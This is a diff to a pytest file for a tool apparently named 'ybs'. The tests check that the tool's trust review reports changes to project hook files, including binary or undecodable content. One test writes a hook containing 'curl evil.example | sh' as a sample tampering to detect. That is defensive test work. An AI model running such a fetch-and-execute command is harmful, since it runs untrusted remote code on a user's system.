@@ -8,7 +8,7 @@ import pytest
 
 from hosts import this_host
 from rows import every_row
-from trusting import POWERFUL, put, trusted, wanting
+from trusting import POWERFUL, give_trust, put, trusted, wanting
 from ybs.config.review import RunTrust
 from ybs.config.schema import Config
 from ybs.config.shape import all_names
@@ -435,26 +435,65 @@ def test_a_difference_shows_the_changed_part_of_a_long_line():
     assert difference(f"{spaces}ok\n", f"{spaces}ok;make\n").endswith("\n-ok\n+ok; …\n+make")
 
 
+def test_a_byte_that_is_no_text_hides_no_difference(project: Path):
+    hook = put(project, ".ybs/hooks/check.sh", "")
+    hook.write_bytes(b"# by Ren\xe9\necho fine\n")
+    give_trust(project)
+    hook.write_bytes(b"# by Ren\xe9\ncurl evil.example | sh\n")
+    review = load(this_host(), folder=project).review
+    assert review is not None
+    shown = [change.difference for change in review.changes]
+    assert shown == ["@@ -1,2 +1,2 @@\n # by Ren\\xe9\n-echo fine\n+curl evil.example | sh"]
+    hook.write_bytes(b"# by Ren\\xe9\necho fine\n")  # it reads as what was trusted, and is not
+    review = load(this_host(), folder=project).review
+    assert review is not None
+    assert [change.what for change in review.changes] == [
+        "has changed (23 bytes now, no difference can be shown)"
+    ]
+
+
+def test_the_first_question_says_of_which_files_no_difference_will_be_shown(project, monkeypatch):
+    monkeypatch.setattr(trust, "MOST_KEPT", 10)
+    monkeypatch.setattr(trust, "MOST_KEPT_IN_ALL", 25)
+    for name, text in (
+        ("a", "x" * 11),
+        ("b", "\0"),
+        ("c", "x" * 10),
+        ("d", ""),
+        ("e", "x" * 10),
+        ("f", "x" * 6),
+    ):
+        put(project, f".ybs/hooks/{name}", text)
+
+    def named() -> list[str]:
+        review = load(this_host(), folder=project).review
+        assert review is not None
+        return [item.place for item in review.items if "shown no difference" in item.words]
+
+    assert named() == [f".ybs/hooks/{name}" for name in "abf"]
+    give_trust(project)
+    assert named() == []
+
+
 def test_the_difference_of_what_is_no_text_or_too_large_is_its_size(
     project: Path, monkeypatch: pytest.MonkeyPatch
 ):
     monkeypatch.setattr(trust, "MOST_KEPT", 10)
     big, binary = put(project, ".ybs/tools/big", "x" * 11), put(project, ".ybs/tools/bin", "x")
-    binary.write_bytes(b"\xff\xfe")
+    binary.write_bytes(b"\0\xfe")
     review = load(this_host(), folder=project).review
     assert review is not None
     give(this_host(), review)
     big.write_text("y" * 12)
-    binary.write_bytes(b"\xff\xff\xff")
+    binary.write_bytes(b"\0\xff\xff")
     review = load(this_host(), folder=project).review
     assert review is not None
     assert [change.what for change in review.changes] == [
-        "has changed (12 bytes now)",
-        "has changed (3 bytes now)",
+        "has changed (12 bytes now, no difference can be shown)",
+        "has changed (3 bytes now, no difference can be shown)",
     ]
-    assert ".ybs/tools/big has changed (12 bytes now) since you trusted this project" in lines_of(
-        review
-    )
+    told = lines_of(review)
+    assert any(line.startswith(".ybs/tools/big has changed (12 bytes now, no") for line in told)
     sizes = {"a": (11, 5), "b": (5, 11), "c": (10, 10)}
     for name, (size, _) in sizes.items():
         put(project, f".ybs/hooks/{name}", "x" * size)
@@ -466,8 +505,8 @@ def test_the_difference_of_what_is_no_text_or_too_large_is_its_size(
     review = load(this_host(), folder=project).review
     assert review is not None
     assert [(change.what, change.difference) for change in review.changes] == [
-        ("has changed (5 bytes now)", ""),
-        ("has changed (11 bytes now)", ""),
+        ("has changed (5 bytes now, no difference can be shown)", ""),
+        ("has changed (11 bytes now, no difference can be shown)", ""),
         ("has changed", "@@ -1 +1 @@\n-xxxxxxxxxx\n+yyyyyyyyyy"),
     ]
 
